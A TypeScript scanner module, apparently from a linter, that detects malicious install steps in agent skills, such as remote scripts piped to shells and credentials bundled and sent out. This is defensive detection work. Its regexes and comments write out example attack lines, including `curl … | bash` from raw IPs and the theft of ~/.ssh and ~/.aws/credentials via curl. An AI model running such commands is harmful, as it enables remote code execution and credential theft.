/**
 * Malicious install steps (issue 20): the techniques of rules/malicious-patterns.json, found in a
 * skill's text (prose and code alike, since the instruction often sits in bold prose) and in its
 * scripts. Pure functions of the text: nothing is run, fetched or resolved. Base64 literals are
 * decoded as text, and the decoded text is scanned too, so a finding can say what an encoded
 * command decodes to.
 *
 * Downloads that are run (`curl … | sh`, `bash <(curl …)`, `bash -c "$(curl …)"`, `iex (iwr …)`)
 * are judged by their URL: from a raw IP address, a URL shortener, a paste site or plain http they
 * are `untrusted-remote-script`; from a named https host they are left to undeclared-risk, which
 * warns (a common installer such as rustup's).
 */
import fs from 'node:fs';
import path from 'node:path';
import { packageRoot } from '../util/package-root.js';
import { NextChar, NextMatch, prefixSpanSuffix, type Span } from './linear-match.js';
import { collapse } from '../text/collapse.js';
import { variableReads, type VariableRead } from './variables.js';

export type TechniqueId = 'decode-and-execute' | 'untrusted-remote-script' | 'password-archive-executable' | 'paste-command-from-page' | 'disable-os-protection' | 'credential-exfiltration';

export interface Technique {
  readonly id: TechniqueId;
  readonly summary: string;
  readonly doc: string;
}

export interface MaliciousFinding {
  readonly technique: TechniqueId;
  /** The pattern of rules/malicious-patterns.json (or `download-run`, `encoded-literal`). */
  readonly pattern: string;
  /** Offset of the match in the scanned text (UTF-16 code units), and its length. */
  readonly offset: number;
  readonly length: number;
  readonly message: string;
  /** For a finding in decoded text: what the literal decodes to (shortened). */
  readonly decoded?: string;
}

interface PatternRule {
  readonly id: string;
  readonly technique: TechniqueId;
  readonly within: 'line' | 'paragraph';
  readonly match: string;
  readonly all?: readonly string[];
  readonly none?: readonly string[];
  /** For line patterns: the match and its `all` expressions in one span (inline code or the text between). */
  readonly sameSpan?: boolean;
  readonly message: string;
}

interface PatternFile {
  readonly hosts: { readonly shorteners: readonly string[]; readonly pasteSites: readonly string[] };
  readonly techniques: readonly Technique[];
  readonly patterns: readonly PatternRule[];
}

interface Compiled {
  readonly techniques: readonly Technique[];
  readonly shorteners: ReadonlySet<string>;
  readonly pasteSites: ReadonlySet<string>;
  readonly patterns: readonly (PatternRule & { re: RegExp; allRe: RegExp[]; noneRe: RegExp[] })[];
}

let compiled: Compiled | undefined;

function load(): Compiled {
  if (compiled) return compiled;
  const doc = checkPatterns(JSON.parse(fs.readFileSync(path.join(packageRoot(), 'rules', 'malicious-patterns.json'), 'utf8')));
  return (compiled = {
    techniques: doc.techniques,
    shorteners: new Set(doc.hosts.shorteners),
    pasteSites: new Set(doc.hosts.pasteSites),
    patterns: doc.patterns.map((p) => ({ ...p, re: new RegExp(p.match, 'i'), allRe: (p.all ?? []).map((s) => new RegExp(s, 'i')), noneRe: (p.none ?? []).map((s) => new RegExp(s, 'i')) })),
  });
}

const TECHNIQUES: readonly TechniqueId[] = ['decode-and-execute', 'untrusted-remote-script', 'password-archive-executable', 'paste-command-from-page', 'disable-os-protection', 'credential-exfiltration'];

/**
 * The checks of schemas/malicious-patterns.schema.json that loading needs, by hand: every lint run
 * reads this file, and compiling the schema would cost it more than the scan (the schema itself
 * is checked against the file by the tests). Every expression must compile.
 */
export function checkPatterns(data: unknown): PatternFile {
  const fail = (why: string): never => {
    throw new Error(`rules/malicious-patterns.json is invalid: ${why}`);
  };
  const d = data as Partial<PatternFile> | null;
  if (!d || typeof d !== 'object' || !d.hosts || !Array.isArray(d.techniques) || !Array.isArray(d.patterns)) return fail('hosts, techniques and patterns are required');
  if (!Array.isArray(d.hosts.shorteners) || !Array.isArray(d.hosts.pasteSites)) return fail('hosts needs shorteners and pasteSites');
  for (const t of d.techniques) if (!TECHNIQUES.includes(t.id) || typeof t.summary !== 'string' || typeof t.doc !== 'string') fail(`technique ${JSON.stringify(t.id)}`);
  for (const p of d.patterns) {
    if (!TECHNIQUES.includes(p.technique) || (p.within !== 'line' && p.within !== 'paragraph') || typeof p.message !== 'string') fail(`pattern ${JSON.stringify(p.id)}`);
    // A span is found within the match's line (scanText): a paragraph has no one span to offer.
    if (p.sameSpan === true && p.within !== 'line') fail(`pattern ${p.id}: sameSpan needs within "line"`);
    for (const src of [p.match, ...(p.all ?? []), ...(p.none ?? [])]) {
      try {
        new RegExp(src, 'i');
      } catch (e) {
        fail(`pattern ${p.id}: ${(e as Error).message}`);
      }
    }
  }
  return d as PatternFile;
}

export function maliciousTechniques(): readonly Technique[] {
  return load().techniques;
}

interface Window {
  readonly start: number;
  readonly text: string;
}

/** Lines, and paragraphs (text between blank lines; a fenced code block is one paragraph). */
function windows(text: string): { lines: Window[]; paragraphs: Window[] } {
  const lines: Window[] = [];
  const paragraphs: Window[] = [];
  let at = 0;
  let para: { start: number; end: number } | null = null;
  let fence: string | null = null;
  const flush = () => {
    if (para) paragraphs.push({ start: para.start, text: text.slice(para.start, para.end) });
    para = null;
  };
  for (const raw of text.split('\n')) {
    const start = at;
    at += raw.length + 1;
    lines.push({ start, text: raw });
    const f = /^\s{0,3}(`{3,}|~{3,})/.exec(raw);
    if (f) {
      if (fence === null) {
        flush();
        fence = f[1]![0]!;
      } else if (f[1]![0] === fence) fence = null;
    }
    if (fence === null && raw.trim() === '' && !f) {
      flush();
      continue;
    }
    if (!para) para = { start, end: start + raw.length };
    else para.end = start + raw.length;
  }
  flush();
  return { lines, paragraphs };
}

/** How a URL's host makes a downloaded script untrusted, or null. */
export function untrustedHost(url: string): string | null {
  const m = /^(https?):\/\/([^/\s"'`)<>\]]+)/i.exec(url);
  if (!m) return null;
  const scheme = m[1]!.toLowerCase();
  // Credentials and the port go (a port may be a placeholder: `localhost:<port>`); an IPv6 literal keeps its brackets.
  const authority = m[2]!.replace(/^[^@]*@/, '').toLowerCase();
  const host = authority.startsWith('[') ? authority.replace(/\].*$/, ']') : authority.replace(/:.*$/, '');
  const c = load();
  // The host and each domain above it (`a.b.bit.ly`, `b.bit.ly`, `bit.ly`, `ly`): a set lookup each.
  const listed = (set: ReadonlySet<string>) => {
    for (let at = 0; at >= 0; at = host.indexOf('.', at) + 1 || -1) if (set.has(host.slice(at))) return true;
    return false;
  };
  if (/^\d{1,3}(\.\d{1,3}){3}$/.test(host) || /^\[[0-9a-f:]+\]$/.test(host)) {
    if (/^127\.|^0\.0\.0\.0$|^\[::1\]$/.test(host)) return null;
    return `a raw IP address (${host})`;
  }
  if (listed(c.shorteners)) return `a URL shortener (${host})`;
  if (listed(c.pasteSites)) return `a paste site (${host})`;
  if (scheme === 'http' && host !== 'localhost') return `plain http (${host})`;
  return null;
}

/**
 * A download piped or handed to an interpreter: `curl … | sh`, `osascript -e "$(curl …)"`,
 * `bash <(curl …)`, `bash -c "$(curl …)"`, `eval "$(curl …)"`, `iex (… DownloadString …)`,
 * `iwr … | iex`, `exec(urlopen(…).read())`, each as the command word, a greedy span up to a stop character, and what must come
 * last (see prefixSpanSuffix: one global search of `prefix[^stop]*suffix` was quadratic in a line).
 */
const DOWNLOAD_RUN: readonly { readonly prefix: RegExp; readonly stop: RegExp; readonly suffix: RegExp }[] = [
  { prefix: /\b(?:curl|wget|fetch)\b/gi, stop: /\n/, suffix: /\|\s*(?:sudo(?:\s+-[A-Za-z]+(?:\s+(?!-)[\w.-]+)?)*\s+)?(?:(?:\/usr\/bin\/)?env\s+)?(?:xargs\s+(?:-\S+\s+)*)?["']?(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:sh|bash|zsh|dash|ksh|python[23]?|perl|ruby|node|php|osascript)\b/i },
  { prefix: /\bosascript\s+-e\s+["']?\$\(\s*(?:curl|wget)\b/gi, stop: /[)\n]/, suffix: /\)/ },
  { prefix: /\b(?:sh|bash|zsh|source|\.)\s+<\(\s*(?:curl|wget)\b/gi, stop: /[)\n]/, suffix: /\)/ },
  { prefix: /\b(?:sh|bash|zsh|python[23]?)\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/gi, stop: /[)\n]/, suffix: /\)/ },
  { prefix: /\beval\s+["']?\$\(\s*(?:curl|wget)\b/gi, stop: /[)\n]/, suffix: /\)/ },
  { prefix: /\b(?:iex|Invoke-Expression)\b/gi, stop: /\n/, suffix: /\b(?:DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*/i },
  { prefix: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/gi, stop: /[|\n]/, suffix: /\|\s*(?:iex|Invoke-Expression)\b/i },
  // Python's and JavaScript's exec or eval of what a request returned: `exec(urlopen(URL).read())`,
  // `exec(requests.get(URL).text)`, `eval(await (await fetch(URL)).text())`.
  { prefix: /\b(?:exec|eval)\s*\(/gi, stop: /[;\n]/, suffix: /\b(?:urlopen|requests\.get|httpx\.get|fetch)\s*\(\s*(?:Request\s*\(\s*)?(?:url\s*=\s*)?(?:[frbu]{0,2}["'`]https?:\/\/[^\s"'`)]+|[A-Za-z_]\w*\s*[,)])/i },
];
/** `mshta http://…`: the URL is in the run of non-spaces after the command, which bounds the search. */
const MSHTA_RUN = /\bmshta(?:\.exe)?\s+\S*https?:\/\/\S+/gi;

function downloadRuns(text: string, paragraphs: readonly Window[], reads: () => readonly VariableRead[]): MaliciousFinding[] {
  const out: MaliciousFinding[] = [];
  const spans = [...DOWNLOAD_RUN.flatMap((shape) => prefixSpanSuffix(text, shape.prefix, shape.stop, shape.suffix)), ...[...text.matchAll(MSHTA_RUN)].map((m) => ({ index: m.index, end: m.index + m[0].length }))];
  for (const span of spans) {
    let spanReads: VariableRead[] | undefined;
    const inSpan = (): VariableRead[] => (spanReads ??= readsIn(reads(), span));
    const literal = untrustedUrlIn(text.slice(span.index, span.end), (url, at) => hostRead(text, span.index + at, url, inSpan()));
    // A URL held in a variable (`URL=http://…` above, `curl "$URL" | bash` here) is judged by its
    // value, where the command takes it as its URL: not a proxy, a header or a referer, and not
    // in an earlier command of the line (`curl -s $API/health && curl … | sh`).
    let held: { why: string; name: string } | null = null;
    if (!literal) {
      const lastCommand = span.index + lastCommandStart(text.slice(span.index, span.end));
      for (const r of inSpan()) {
        if (r.index < lastCommand || !isUrlOperand(text, r)) continue;
        const url = urlOf(r.value);
        const why = url === null ? null : untrustedHostOf(url + readTail(text, r.end));
        if (why) {
          held = { why, name: r.name };
          break;
        }
      }
    }
    const why = literal ?? held?.why;
    if (!why) continue;
    const names = held ? ` (its URL is held in ${held.name})` : '';
    out.push({ technique: 'untrusted-remote-script', pattern: 'download-run', offset: span.index, length: span.end - span.index, message: `a script from ${why} is downloaded and run${names}` });
  }
  out.push(...savedThenRun(text, paragraphs, reads));
  return out;
}

/**
 * Why the first URL of a command that names an untrusted host does, or null. curl takes a bare host
 * as http: `curl -s 192.0.2.10/i.sh | bash`. `resolve` gives a URL whose host is a variable
 * (`http://$HOST:8080/i.sh`) with the value it holds, when known.
 */
function untrustedUrlIn(command: string, resolve: (url: string, at: number) => string = (u) => u): string | null {
  for (const m of command.matchAll(/https?:\/\/[^\s"'`)<>|]+/gi)) {
    const why = untrustedHostOf(/^https?:\/\/[^/]*[$%]/i.test(m[0]) ? resolve(m[0], m.index) : m[0]);
    if (why) return why;
  }
  for (const m of command.matchAll(/(?<![\w./:-])\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\/[^\s"'`)<>|]*/g)) {
    const why = untrustedHostOf(`http://${m[0]}`);
    if (why) return why;
  }
  return null;
}

/** A URL written with a variable in its host, with the values of the reads that lie in it. */
function hostRead(text: string, at: number, url: string, reads: readonly VariableRead[]): string {
  const parts: string[] = [];
  let from = at;
  for (const r of reads) {
    if (r.index < at || r.end > at + url.length) continue;
    parts.push(text.slice(from, r.index), r.value);
    from = r.end;
  }
  return parts.length === 0 ? url : parts.join('') + text.slice(from, at + url.length);
}

/** untrustedHost, remembered per URL: a text may hold thousands of reads of one variable. */
const hostVerdicts = new Map<string, string | null>();
function untrustedHostOf(url: string): string | null {
  let why = hostVerdicts.get(url);
  if (why === undefined) {
    why = untrustedHost(url);
    if (hostVerdicts.size >= 4096) hostVerdicts.clear();
    hostVerdicts.set(url, why);
  }
  return why;
}

/** Where the last command of a line starts (after `&&`, `||`, `;`): a download piped to a shell is that command's. */
function lastCommandStart(command: string): number {
  let at = 0;
  for (const m of command.matchAll(/&&|\|\||;/g)) at = m.index + m[0].length;
  return at;
}

/**
 * Options whose value is not the URL a command downloads (curl, wget, PowerShell): a proxy, a
 * header, a referer, credentials, an output file, data to send.
 */
const VALUE_OPTIONS = new Set([
  // curl's and wget's short options, as written (curl's `-f` takes no value, `-F` does).
  '-x', '-H', '-e', '-u', '-U', '-A', '-b', '-c', '-d', '-F', '-o', '-O', '-T', '-w', '-K', '-P',
  // long options, compared in lower case (PowerShell's are not case-sensitive)
  ...['--proxy', '--preproxy', '--header', '--referer', '--user', '--proxy-user', '--user-agent', '--cookie', '--cookie-jar', '--data', '--data-raw', '--data-binary', '--data-urlencode', '--json', '--form', '--output', '--output-document', '--upload-file', '--write-out', '--resolve', '--connect-to', '--cacert', '--cert', '--key', '--config', '--post-data', '--post-file', '--directory-prefix', '-proxy', '-headers', '-outfile', '-useragent', '-body', '-method', '-contenttype', '-credential', '-infile'],
]);

/** The characters that go on a variable's URL after the read (`$BASE/i.sh`), up to what ends an argument. */
const READ_TAIL = /[^\s"'`)<>|,;]*/y;
function readTail(text: string, at: number): string {
  READ_TAIL.lastIndex = at;
  return READ_TAIL.exec(text)?.[0] ?? '';
}

/**
 * Whether a read stands where a command takes its URL: at the start of an argument (after a blank
 * outside quotes, a quote, a parenthesis or `--url=`), and not as the value of an option in
 * VALUE_OPTIONS. Quotes are counted over the 200 characters before the read, which bounds the work
 * per read.
 */
export function isUrlOperand(text: string, r: VariableRead): boolean {
  let at = r.index;
  const before = at > 0 ? text[at - 1]! : ' ';
  if (before === '=') return /(?:--url|-uri)=$/i.test(text.slice(Math.max(0, at - 6), at));
  if (!/[\s"'(]/.test(before)) return false;
  // After a blank inside a quoted string (`-H "Referer: $SITE"`), the read is not an argument of its own.
  if (/\s/.test(before)) {
    const lineStart = text.lastIndexOf('\n', at - 1) + 1;
    const back = text.slice(Math.max(lineStart, at - 200), at);
    if ((back.split('"').length - 1) % 2 === 1 || (back.split("'").length - 1) % 2 === 1) return false;
  }
  // The word before: skip an opening quote or parenthesis, then blanks.
  at--;
  while (at >= 0 && /["'(]/.test(text[at]!)) at--;
  while (at >= 0 && (text[at] === ' ' || text[at] === '\t')) at--;
  let from = at;
  while (from >= 0 && !/[\s"'(]/.test(text[from]!) && at - from < 40) from--;
  const word = text.slice(from + 1, at + 1);
  return !VALUE_OPTIONS.has(word) && !(word.length > 2 && VALUE_OPTIONS.has(word.toLowerCase()));
}

/**
 * A download and run said in words rather than as a command: "Download http://192.0.2.7/i.sh and
 * run it", "fetch https://bit.ly/x, then pipe it into bash", "Run the installer at
 * http://192.0.2.7/setup.sh". An agent follows such a sentence as it would the command. The URL's
 * host decides as for commands; the run must be said on the URL's line (a download verb at most
 * PROSE_BEFORE characters before the URL and the run at most PROSE_AFTER after it, or "run the
 * script at" just before it), and a paragraph that warns (`never`, `do not`, `attackers`, `phishing`
 * …) is a description of the attack, not an instruction. A line a download-run command already
 * answers for is not reported twice.
 */
const PROSE_BEFORE = 80;
const PROSE_AFTER = 200;
const PROSE_URL = /https?:\/\/[^\s"'`)<>|\]]+/gi;
const PROSE_DOWNLOAD = /\b(?:download|fetch|get|grab|pull|save|curl|wget)\b/i;
const PROSE_RUN_AFTER = /\b(?:pipe|feed|pass)\s+(?:it|that|this|them|the\s+(?:output|script|file|result|response|contents?))\s+(?:in)?to\s+(?:(?:ba|z|da)?sh|a\s+shell|the\s+shell|your\s+shell|python3?|powershell|iex)\b|\b(?:and|then|,)\s+(?:then\s+)?(?:run|execute|launch|source)\s+(?:it|that|this|them|the\s+(?:script|installer|binary|program|executable))\b/i;
const PROSE_RUN_BEFORE = /\b(?:run|execute|launch|source)\s+(?:the\s+)?(?:script|installer|binary|program|executable|setup\s+script)\s+(?:at|from|hosted\s+at|located\s+at)\s*[:`'"*]*\s*$/i;
const PROSE_WARNING = /\b(?:never|do not|don't|attackers?|victims?|phishing|scams?|social engineering|malware|malicious)\b/i;

function proseDownloadRuns(text: string, lines: readonly Window[], paragraphs: readonly Window[], commands: readonly MaliciousFinding[]): MaliciousFinding[] {
  const out: MaliciousFinding[] = [];
  const answered = new Set(commands.map((f) => windowAt(lines, f.offset)));
  const warns = new Map<Window, boolean>();
  for (const m of text.matchAll(PROSE_URL)) {
    const why = untrustedHost(m[0]);
    if (!why) continue;
    const line = windowAt(lines, m.index);
    if (!line || answered.has(line)) continue;
    const lineEnd = line.start + line.text.length;
    const before = text.slice(Math.max(line.start, m.index - PROSE_BEFORE), m.index);
    const after = text.slice(m.index + m[0].length, Math.min(lineEnd, m.index + m[0].length + PROSE_AFTER));
    if (!(PROSE_RUN_BEFORE.test(before) || (PROSE_DOWNLOAD.test(before) && PROSE_RUN_AFTER.test(after)))) continue;
    const para = windowAt(paragraphs, m.index);
    if (para) {
      let warned = warns.get(para);
      if (warned === undefined) warns.set(para, (warned = PROSE_WARNING.test(para.text)));
      if (warned) continue;
    }
    answered.add(line);
    out.push({ technique: 'untrusted-remote-script', pattern: 'prose-download-run', offset: m.index, length: m[0].length, message: `a script from ${why} is to be downloaded and run (said in words)` });
  }
  return out;
}

/** The variable reads that lie in a span (reads are in text order). */
function readsIn(reads: readonly VariableRead[], span: Span): VariableRead[] {
  let lo = 0;
  let hi = reads.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (reads[mid]!.index < span.index) lo = mid + 1;
    else hi = mid;
  }
  const out: VariableRead[] = [];
  for (let k = lo; k < reads.length && reads[k]!.end <= span.end; k++) out.push(reads[k]!);
  return out;
}

/**
 * Lines longer than SEGMENT characters are matched in segments of that length, each starting
 * SEGMENT_STEP after the one before, so that a match of up to SEGMENT - SEGMENT_STEP characters
 * lies whole in one of them. A pattern with a greedy gap (`\\bpowershell\\b[^\\n]*\\s-enc …`) is
 * retried from every occurrence of its first word and each try reads to the line's end: a crafted
 * line of 200 KB took seconds, a megabyte minutes. In segments the work per character is bounded.
 */
const SEGMENT = 4096;
const SEGMENT_STEP = 3072;

/** Where the segments of a line of `length` characters start (one, at 0, for a short line). */
function segmentStarts(length: number): number[] {
  const starts = [0];
  while (starts.at(-1)! + SEGMENT < length) starts.push(starts.at(-1)! + SEGMENT_STEP);
  return starts;
}

/**
 * Whether an expression matches a line. A long line is searched as scanText searches it, piece by
 * piece (piecesOf: each segment with the line's text around it, answering for its own stride), so
 * a cut never makes or hides a match that the whole line would not.
 */
function matchesLine(re: RegExp, line: string): boolean {
  if (line.length <= SEGMENT) return re.test(line);
  for (const _ of ownMatches(globalOf(re), piecesOf(line, [{ start: 0, text: line }]).pieces)) return true;
  return false;
}

const globals = new WeakMap<RegExp, RegExp>();

/** The expression with the `g` flag, made once per expression. */
function globalOf(re: RegExp): RegExp {
  let g = globals.get(re);
  if (!g) globals.set(re, (g = re.global ? re : new RegExp(re.source, `${re.flags}g`)));
  return g;
}

/**
 * Credentials bundled into a file (an archive, a copy) or read into a variable on one line, and
 * that file or variable sent out on a later line of the same paragraph (one of the next
 * SEND_LOOKAHEAD): `tar czf /tmp/s.tgz ~/.ssh/id_rsa` then `curl -F f=@/tmp/s.tgz`;
 * `KEY=$(cat ~/.aws/credentials)` then `curl -d "$KEY" …`.
 * The credential and sender expressions are those of the `credential-send` pattern.
 */
const SEND_LOOKAHEAD = 40;

/** What splits a sender's line into the names it may send: spaces, quotes and `-F f=@file` punctuation. */
const SEND_TOKEN = /[\s"'`@=;&|,()<>]+/;

/** A line that sets a variable: `NAME=$(…)`, `export NAME=…`, `$name = …`, `name = …`, `const name = …`. */
const CAPTURE = /^\s*(?:(?:export|local|readonly|declare|const|let|var)\s+)?(\$?)([A-Za-z_]\w*)(\s*)=(?!=)\s*(.*)$/;

/** A variable and how a later line reads it: `$KEY` and `${KEY}` (sh, PowerShell), or the bare name (Python, JavaScript). */
interface HeldIn {
  readonly name: string;
  readonly dollar: boolean;
}

/**
 * The variable a line reads something into: its value runs a command or calls a function
 * (`$(…)`, backticks, `open(…)`), not a path it only names (`KEY=~/.ssh/id_ed25519` for a later
 * `scp -i "$KEY"` holds the path, not the key). With `any`, whatever the value is.
 */
function capturedInto(line: string, any = false): HeldIn | null {
  const m = CAPTURE.exec(line);
  if (!m) return null;
  const value = m[4]!;
  if (!any && !/\$\(|`|\(/.test(value)) return null;
  // sh has no blanks around its `=`; PowerShell's names start with `$`.
  const dollar = m[1] === '$' || (m[3] === '' && /^(?:\$\(|`|["']?\$)/.test(value)) || /^\s*(?:export|local|readonly|declare)\s/.test(line);
  return { name: m[2]!, dollar };
}

/** Whether text reads a variable: `$K`, `${K}` (then the name ends), or the bare name outside quotes and not as an attribute. */
function readsVariable(text: string, v: HeldIn): boolean {
  // A name is letters, digits and underscores (CAPTURE): nothing in it to escape.
  return v.dollar ? new RegExp(`\\$\\{?${v.name}(?![A-Za-z0-9_])`).test(text) : new RegExp(`(?<![\\w.$'"])${v.name}(?![\\w'"])`).test(text);
}

/** A sender's line without its headers: a token sent to the API it is for (`-H "Authorization: Bearer $KEY"`) is its use, not its theft. */
function withoutHeaders(line: string): string {
  return line.replace(/(?:-H|--header)\s*(?:"[^"\n]*"|'[^'\n]*'|\S+)|-Headers\s*@\{[^}\n]*\}|\bheaders\s*[=:]\s*\{[^}\n]*\}/gi, ' ');
}

function bundledThenSent(text: string, lines: readonly Window[], paragraphs: readonly Window[]): MaliciousFinding[] {
  const rule = load().patterns.find((p) => p.id === 'credential-send');
  if (!rule || rule.allRe.length === 0) return [];
  const sends = rule.allRe[0]!;
  /**
   * Per line index, the names a sender's line holds (each path also by its last part), or null for
   * a line that sends nothing: each line is read once, however many bundling lines look at it.
   */
  const senders = new Map<number, ReadonlySet<string> | null>();
  const namesSentBy = (j: number): ReadonlySet<string> | null => {
    let names = senders.get(j);
    if (names === undefined) {
      const l = lines[j]!.text;
      names = matchesLine(sends, l) ? new Set(l.split(SEND_TOKEN).flatMap((t) => (t.includes('/') ? [t, t.slice(t.lastIndexOf('/') + 1)] : [t]))) : null;
      senders.set(j, names);
    }
    return names;
  };
  const out: MaliciousFinding[] = [];
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    const m = rule.re.exec(line.text);
    if (!m || matchesLine(sends, line.text)) continue;
    const files = line.text
      .split(/\s+/)
      .map((t) => t.replace(/^["'@]+|["';&|]+$/g, ''))
      .filter((t) => /[/.]/.test(t) && !t.startsWith('-') && !rule.re.test(t) && t.length > 2);
    // Or a variable the line reads them into (`KEY=$(cat ~/.aws/credentials)`, `key = open(…).read()`).
    const capture = capturedInto(line.text);
    if (files.length === 0 && !capture) continue;
    const para = windowAt(paragraphs, line.start);
    if (!para) continue;
    const paraEnd = para.start + para.text.length;
    /** The variables that hold the credentials: the one this line sets, and those set from it below (`B=$(echo "$KEY" | base64)`). */
    const tainted = capture ? [capture] : [];
    for (let j = i + 1; j <= i + SEND_LOOKAHEAD && j < lines.length && lines[j]!.start <= paraEnd; j++) {
      const l = lines[j]!.text;
      const names = namesSentBy(j);
      let message: string | undefined;
      if (names && files.some((f) => names.has(f))) message = 'credentials are bundled into a file that is then sent out';
      else if (tainted.length > 0 && names && tainted.some((v) => readsVariable(withoutHeaders(l), v))) message = `credentials are read into ${tainted[0]!.name}, which is then sent out`;
      else if (tainted.length > 0) {
        const next = capturedInto(l, true);
        if (next && tainted.some((v) => readsVariable(l.slice(l.indexOf('=') + 1), v))) tainted.push(next);
      }
      if (message !== undefined) {
        out.push({ technique: 'credential-exfiltration', pattern: 'credential-bundle-send', offset: line.start + m.index, length: m[0].length, message });
        break;
      }
    }
  }
  return out;
}

/** A download saved to a file: the command's span, the URL and the file's name. */
interface SavedDownload extends Span {
  readonly url: string;
  readonly file: string;
  /** The variable that holds the URL, when the command reads one. */
  readonly variable?: string;
}

/** A variable's value as a URL: itself when it starts with http(s)://, `http://` and it for a bare IP address (curl reads one as http), else null. */
function urlOf(value: string): string | null {
  if (/^https?:\/\//i.test(value)) return value;
  if (/^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:\/|$)/.test(value)) return `http://${value}`;
  return null;
}

const FETCH = /\b(?:curl|wget)\b/gi;
const PS_FETCH = /\b(?:iwr|Invoke-WebRequest|Start-BitsTransfer)\b/gi;
/** Where a URL starts: a scheme and at least one character of the URL after it. */
const URL_START = /https?:\/\/(?=[^\s"'`)<>|])/gi;
/** What ends a URL. */
const URL_END = /[\s"'`)<>|]/;
/** An output option and its file, after the URL (`-o f`, `--output f`, `> f`). */
const OUT_AFTER_URL = /(?:\s-o\s*|\s-O\s*|--output[= ]|--output-document[= ]|>\s*)["']?([^\s"'`;&|]+)/gi;
/** The same before the URL, after a space. */
const OUT_BEFORE_URL = /\s(?:-o\s*|-O\s*|--output[= ]|--output-document[= ]|>\s*)["']?([^\s"'`;&|]+)/gi;
const PS_OUT = /-(?:OutFile|Destination)\s+["']?([^\s"'`;&|]+)/gi;
/** `(New-Object Net.WebClient).DownloadFile('URL', 'FILE')`: the file is the argument after the URL. */
const PS_DOWNLOAD_FILE = /\bDownloadFile(?:Async)?\b/gi;
const SECOND_ARGUMENT = /["']?\s*,\s*["']?([^\s"'`;&|)]+)/iy;
/**
 * `certutil -urlcache -f URL FILE` (a Windows tool that downloads): the file is the word after the
 * URL. Only options between the command and -urlcache, so each is read once whatever the line.
 */
const CERTUTIL = /\bcertutil(?:\.exe)?(?:\s+[-/]\w+)*?\s+[-/]urlcache\b/gi;
const NEXT_WORD = /\s+["']?([^\s"'`;&|-][^\s"'`;&|]*)/iy;

/**
 * Downloads saved to a file: `curl|wget … URL … -o FILE`, `curl|wget … -o FILE … URL` and
 * `iwr|Invoke-WebRequest|Start-BitsTransfer … URL … -OutFile FILE`, each part the first after the
 * one before on the command's line (an output option's spaces may run onto the next). The global
 * searches this replaces (`\bcurl\b[^\n]*?(URL)[^\n]*?(OUT)`) were cubic in a line: 16 s for 20 KB.
 * Here every part is found with a cursor that only moves forward (NextMatch), so a text is read
 * a bounded number of times. Unlike the regex, a URL is always taken whole: the regex could cut one
 * short at an `--output=` inside it, which curl would not read as an option either.
 */
export function savedDownloads(text: string, reads: () => readonly VariableRead[] = () => variableReads(text)): SavedDownload[] {
  const newlines: number[] = [];
  for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1)) newlines.push(i);
  /** The index of the line end (a newline, or the text's end) at or after a position. */
  const lineEnd = (at: number): number => {
    let lo = 0;
    let hi = newlines.length;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (newlines[mid]! < at) lo = mid + 1;
      else hi = mid;
    }
    return lo < newlines.length ? newlines[lo]! : text.length;
  };
  /** Reads of a variable that holds a URL (`curl -o a.sh "$URL"`), in text order. */
  let urlReads: readonly VariableRead[] | undefined;
  /** The first URL at or after a position: written out, or a variable read that holds one (then `url` is its value and the rest of the word). */
  const urls = () => {
    const starts = new NextMatch(text, URL_START);
    const ends = new NextChar(text, URL_END);
    let k = 0;
    return (at: number): (Span & { url?: string; variable?: string }) | null => {
      const s = starts.at(at);
      // Asked only once a download's command word is found.
      urlReads ??= reads().filter((r) => urlOf(r.value) !== null && isUrlOperand(text, r));
      while (k < urlReads.length && urlReads[k]!.index < at) k++;
      const r = urlReads[k];
      if (r && (!s || r.index < s.index)) {
        const tail = readTail(text, r.end);
        return { index: r.index, end: r.end + tail.length, url: urlOf(r.value)! + tail, variable: r.name };
      }
      return s ? { index: s.index, end: ends.at(s.index + s[0].length) } : null;
    };
  };
  /** The URL first, then the output option: the option may start at the line's end (its `\s`). */
  const urlThenOption = (word: RegExp, optionPattern: RegExp) => {
    const url = urls();
    const option = new NextMatch(text, optionPattern);
    return {
      word,
      find: (from: number, end: number) => {
        const u = url(from);
        if (!u || u.index >= end) return null;
        const o = option.at(u.end);
        return o && o.index <= end ? { end: o.index + o[0].length, url: u, file: o[1]! } : null;
      },
    };
  };
  /** The output option first, then the URL on the line where the option's file ends. */
  const optionThenUrl = (word: RegExp, optionPattern: RegExp) => {
    const url = urls();
    const option = new NextMatch(text, optionPattern);
    return {
      word,
      find: (from: number, end: number) => {
        const o = option.at(from);
        if (!o || o.index > end) return null;
        const after = o.index + o[0].length;
        const u = url(after);
        return u && u.index < lineEnd(after) ? { end: u.end, url: u, file: o[1]! } : null;
      },
    };
  };
  const out: SavedDownload[] = [];
  /** The URL, then at once (after its closing quote) the file: an argument list or the next word (`filePattern` is sticky). */
  const urlThenFile = (word: RegExp, filePattern: RegExp) => {
    const url = urls();
    return {
      word,
      find: (from: number, end: number) => {
        const u = url(from);
        if (!u || u.index >= end) return null;
        // Sticky, from the URL's end: no copy of the rest of a long line per download.
        filePattern.lastIndex = u.end;
        const f = filePattern.exec(text);
        return f && u.end + f[0].length <= end ? { end: u.end + f[0].length, url: u, file: f[1]! } : null;
      },
    };
  };
  const shapes = [urlThenOption(FETCH, OUT_AFTER_URL), optionThenUrl(FETCH, OUT_BEFORE_URL), urlThenOption(PS_FETCH, PS_OUT), urlThenFile(PS_DOWNLOAD_FILE, SECOND_ARGUMENT), urlThenFile(CERTUTIL, NEXT_WORD)];
  for (const shape of shapes) {
    const word = new RegExp(shape.word.source, shape.word.flags);
    for (let w = word.exec(text); w; w = word.exec(text)) {
      const from = w.index + w[0].length;
      const found = shape.find(from, lineEnd(from));
      if (!found) {
        word.lastIndex = w.index + 1;
        continue;
      }
      out.push({ index: w.index, end: found.end, url: found.url.url ?? text.slice(found.url.index, found.url.end), file: found.file, ...(found.url.variable !== undefined ? { variable: found.url.variable } : {}) });
      word.lastIndex = found.end;
    }
  }
  return out;
}

/**
 * A file downloaded from an untrusted host (raw IP, shortener, paste site, plain http) and then
